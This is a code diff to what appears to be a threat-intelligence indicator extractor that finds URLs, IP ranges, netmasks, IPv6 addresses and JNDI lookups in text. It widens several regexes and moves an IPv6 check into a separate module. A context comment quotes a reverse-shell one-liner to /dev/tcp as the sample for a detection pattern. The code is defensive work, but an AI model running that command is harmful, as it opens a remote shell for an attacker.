@@ -16,13 +16,14 @@ from lamsach.indicators.doubts import doubt, is_detection
 from lamsach.indicators.normalise import Refused, Value, canonical_values
 from lamsach.indicators.refang import refang
 from lamsach.indicators.suffixes import INTERNAL_TOP_LEVELS, suffixes
+from lamsach.indicators.words import is_ipv6, without_wildcards
 from lamsach.model import IndicatorType
 
 _SCHEMES = r"(?:https?|ftps?|sftp|wss?|tcp|udp|tls|ssl|dns|socks[45]?|stratum\+(?:tcp|ssl|tls)|ldaps?|rmi|smb|ssh|irc|telnet|git|file)"
 _TOKEN = re.compile(
     rf"(?<![a-z0-9])(?P<url>{_SCHEMES}://[^\s<>\"“”‘’]+)"
-    r"|(?<![\w.])(?P<range>[0-9]{1,3}(?:\.[0-9]{1,3}){3}\s?(?:[-–—]|to|đến)\s?[0-9]{1,3}(?:\.[0-9]{1,3}){3}|[0-9]{1,3}(?:\.[0-9]{1,3}){3}-[0-9]{1,3})(?![\w.]*\w)"
-    r"|(?<![\w.])(?P<masked>[0-9]{1,3}(?:\.[0-9]{1,3}){3}[ \t]{1,3}(?:255|0)(?:\.[0-9]{1,3}){3})(?![\w.])"
+    r"|(?<![\w.])(?P<range>[0-9]{1,3}(?:\.[0-9]{1,3}){3}\s?(?:[-–—~]|to|đến)\s?[0-9]{1,3}(?:\.[0-9]{1,3}){3}|[0-9]{1,3}(?:\.[0-9]{1,3}){3}[-–—~][0-9]{1,3})(?![\w.]*\w)"
+    r"|(?<![\w.])(?P<masked>[0-9]{1,3}(?:\.[0-9]{1,3}){3},?[ \t]{1,3}(?:(?:\(?(?:subnet )?(?:net)?mask[ \t:=]{1,3})?\(?(?:255|0)(?:\.[0-9]{1,3}){3}|/[0-9]{1,2}(?![/.]\d)))(?![\w.])"
     r"|(?P<email>[^\s<>\"'“”,;:|()\[\]{}\\/@]{1,64}@(?=\w)[\w.-]{1,253}(?![\w@]))"
     r"|jndi:(?P<named>(?:ldaps?|rmi|dns)://[^\s<>\"“”‘’}]+)"
     r"|(?P<word>[^\s<>\"'“”‘’„,;|()\[\]{}=`^…«»•‹›–—←-⇿➔➜➡➤►▶\ufe0f「」『』]+)",
@@ -50,10 +51,6 @@ _HASH_AND_NAME = re.compile(
 )
 # bash -i >& /dev/tcp/203.0.113.5/4444 0>&1
 _SHELL_SOCKET = re.compile(r"/dev/(?:tcp|udp)/([\w.-]{4,253})/\d{1,5}", re.ASCII)
-_IPV6 = re.compile(
-    r"[0-9a-f]{0,4}(?::[0-9a-f]{0,4}){2,7}(?:(?<=:)\d{1,3}(?:\.\d{1,3}){3})?(?:%\w{1,20})?(?:/\d{1,3})?",
-    re.IGNORECASE | re.ASCII,
-)
 _STARRED = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){1,2}(?:\.\*){1,2}", re.ASCII)
 _RANGE = re.compile(r"[0-9]{1,3}(?:\.[0-9]{1,3}){3}-[0-9]{1,3}(?:\.[0-9]{1,3}){0,3}", re.ASCII)
 # evil.example:1604:secret
@@ -124,7 +121,7 @@ def _inner_url(word: str) -> int | None:
 
 def _masked(token: str) -> Iterator[Found]:
     """A network as routers write it, with its mask (255.255.255.0) or the mask's opposite (0.0.0.255)."""
-    first, mask = token.split()
+    first, mask = token.split()[0].rstrip(","), token.split()[-1].lstrip("(/")
     try:
         yield from _whole(str(ip_network(f"{first}/{mask}", strict=False)))
     except ValueError:
@@ -213,6 +210,8 @@ def _word(word: str, written: str, depth: int = 0) -> Iterator[Found]:
     if word.startswith("_") and word.endswith("_"):
         word = word.strip("_")
     word = word if word.startswith("::") else word.lstrip(":")
+    if "%" in word:
+        word = without_wildcards(word)
     if word.startswith("\\") and HASH_NAMED_FILE.fullmatch(word, 1):  # sha256sum, of a name with an escape
         word = word[1:]
     if len(word) < 4:
@@ -224,7 +223,7 @@ def _word(word: str, written: str, depth: int = 0) -> Iterator[Found]:
     elif match := _HASH_AND_NAME.match(word):
         yield from _whole(match[1])
         yield from _word(word[match.end() :], written, depth + 1)
-    elif ":" in word and _is_ipv6(word):
+    elif ":" in word and is_ipv6(word):
         yield from _whole(word)
     elif depth < 4 and (several := compounds.parts(word)):
         for part in several:
@@ -239,16 +238,6 @@ def _word(word: str, written: str, depth: int = 0) -> Iterator[Found]:
         yield from _dotted(word, written)
     elif len(word) == 128 and all(character in "0123456789abcdefABCDEF" for character in word):
         yield Refused(refusals.OTHER_HASH, word.lower())
-
-
-def _is_ipv6(word: str) -> bool:
-    """Whether a word means an IPv6 address: not a time, a MAC address, a scope (`a::b`) or a row of hex pairs."""
-    if not _IPV6.fullmatch(word) or not any(character.isdigit() for character in word):
-        return False
-    groups = [group for group in word.partition("/")[0].split(":") if group]
-    return ("::" in word and (len(groups) != 2 or len(groups[0]) > 2)) or any(
-        len(group) > 2 for group in groups
-    )
 
 
 def _dotted(word: str, written: str) -> Iterator[Found]:
